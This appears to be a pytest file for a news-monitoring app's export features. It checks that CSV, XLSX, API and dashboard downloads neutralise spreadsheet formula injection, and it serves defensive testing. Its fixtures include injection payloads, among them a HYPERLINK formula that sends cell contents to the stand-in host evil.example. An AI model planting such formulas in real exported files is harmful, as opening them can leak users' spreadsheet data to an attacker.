"""Spreadsheet formula injection (OWASP CSV injection) in every export path: the documents and
trend files (CSV and XLSX, wide headers included), /api/v1 CSV, and the dashboard's
CSV 다운로드. Formula-like text gets one leading quote in CSV and is a string cell in XLSX;
numbers (negative ones included) and other text are unchanged."""
import base64
import csv
import io
import json

import openpyxl
import pytest

import monitor
import store
from dashboard.app import create_app
from spreadsheet_checks import assert_no_live_csv_formula, assert_no_xlsx_formula
from store.documents import save_document
from store.labels import save_classifications

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"자치경찰 클릭")', "+SUM(1,2) 자치경찰", "-2+3 자치경찰",
        "@SUM(A1) 자치경찰", "\t=1+1 자치경찰", "\r=2+2 자치경찰", "＝HYPERLINK(1) 자치경찰", "＠자치경찰"]
PLAIN = ["-3", "-", "자치경찰위원회 - 정례회의", "12.5%"]  # left exactly as they are
DAY = "2026-03-02"


@pytest.fixture(scope="module")
def store_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("sheets") / "monitor.db"
    db = store.open_db(path)
    for i, title in enumerate(EVIL + PLAIN):
        outlet = EVIL[i % len(EVIL)].split()[0] + " 매체"  # formula outlet names too
        doc_id, _ = save_document(db, {
            "canonical_url": f"http://127.0.0.1/{i}", "title": title, "summary": title, "body": f"{title} 본문",
            "source": "시험", "kind": "news", "outlet": outlet, "published_at": f"{DAY}T01:00:00Z", "date_source": "page"})
        save_classifications(db, [{"document_id": doc_id, "model_version": "test", "relevant": True,
                                   "sentiment": "negative", "topics": [], "regions": ["서울"]}])
    db.conn.close()
    return path


def export(store_path, *argv):
    return monitor.main(["--db", str(store_path), "export", *map(str, argv)])


def csv_rows(text):
    return list(csv.reader(io.StringIO(text)))


def expected_csv_text(text):
    return text if text in PLAIN else "'" + text


def test_documents_csv_neutralises_formulas_and_nothing_else(store_path, tmp_path):
    out = tmp_path / "docs.csv"
    assert export(store_path, "documents", "--out", out) == 0
    rows = csv_rows(out.read_bytes().decode("utf-8-sig"))
    assert_no_live_csv_formula(rows)
    header = rows[0]
    titles = sorted(r[header.index("title")] for r in rows[1:])
    assert titles == sorted(expected_csv_text(t) for t in EVIL + PLAIN)
    assert all(r[header.index("outlet")].startswith("'") for r in rows[1:])


def test_xlsx_text_cells_are_strings_never_formulas(store_path, tmp_path):
    out = tmp_path / "docs.xlsx"
    assert export(store_path, "documents", "--out", out) == 0
    assert_no_xlsx_formula(out)
    sheet = openpyxl.load_workbook(out)["data"]
    header = [c.value for c in sheet[1]]
    titles = sorted(row[header.index("title")].value for row in sheet.iter_rows(min_row=2))
    assert titles == sorted(EVIL + PLAIN)  # the exact text, no quote needed


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wide_trend_headers_are_outlet_names_and_stay_inert(store_path, tmp_path, fmt):
    out = tmp_path / f"wide.{fmt}"
    assert export(store_path, "trends", "--group", "outlet", "--wide", "--metric", "net_sentiment",
                  "--from", DAY, "--to", DAY, "--out", out) == 0
    if fmt == "xlsx":
        assert_no_xlsx_formula(out)
        return
    rows = csv_rows(out.read_bytes().decode("utf-8-sig"))
    assert_no_live_csv_formula(rows)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"자치경찰 매체\"" not in rows[0]
    assert any(name.startswith("'=HYPERLINK") for name in rows[0])
    outlets = [i for i, name in enumerate(rows[0]) if name not in ("period", "days_in_period", "partial")]
    assert len(outlets) >= 2 and rows[1][rows[0].index("partial")] == "false"
    assert {rows[1][i] for i in outlets} == {"-1.0"}  # every outlet wholly negative: a negative number, not quoted


def test_api_csv_is_neutralised(store_path):
    app = create_app(str(store_path))
    client = app.server.test_client()
    documents = client.get("/api/v1/documents?format=csv&per_page=100")
    trends = client.get(f"/api/v1/trends?format=csv&group=outlet&from={DAY}&to={DAY}")
    assert documents.status_code == trends.status_code == 200
    for response in (documents, trends):
        rows = csv_rows(response.data.decode("utf-8-sig"))
        assert len(rows) > 5 and any(cell.startswith("'=") for row in rows for cell in row)
        assert_no_live_csv_formula(rows)


def dash_download(client, search):
    """Call the CSV 다운로드 callback the way the browser does; returns the CSV text."""
    deps = json.loads(client.get("/_dash-dependencies").data)
    dep = next(d for d in deps if d["output"] == "dl.data")
    values = {"dl-button.n_clicks": 1, "url.search": search, "doc-relevance.value": "relevant",
              "doc-sort.value": "published_desc"}
    payload = {"output": dep["output"], "outputs": {"id": "dl", "property": "data"},
               "inputs": [{**i, "value": values[f"{i['id']}.{i['property']}"]} for i in dep["inputs"]],
               "state": [{**s, "value": values[f"{s['id']}.{s['property']}"]} for s in dep["state"]],
               "changedPropIds": ["dl-button.n_clicks"]}
    response = client.post("/_dash-update-component", json=payload)
    assert response.status_code == 200, response.data[:300]
    data = json.loads(response.data)["response"]["dl"]["data"]
    return base64.b64decode(data["content"]).decode("utf-8-sig")


@pytest.mark.parametrize("view", ["documents", "sources"])
def test_dashboard_csv_download_is_neutralised(store_path, view):
    client = create_app(str(store_path)).server.test_client()
    rows = csv_rows(dash_download(client, f"?view={view}&start={DAY}&end={DAY}"))
    assert len(rows) > 1
    assert_no_live_csv_formula(rows)
    if view == "documents":
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"자치경찰 클릭\")" in [r[3] for r in rows]
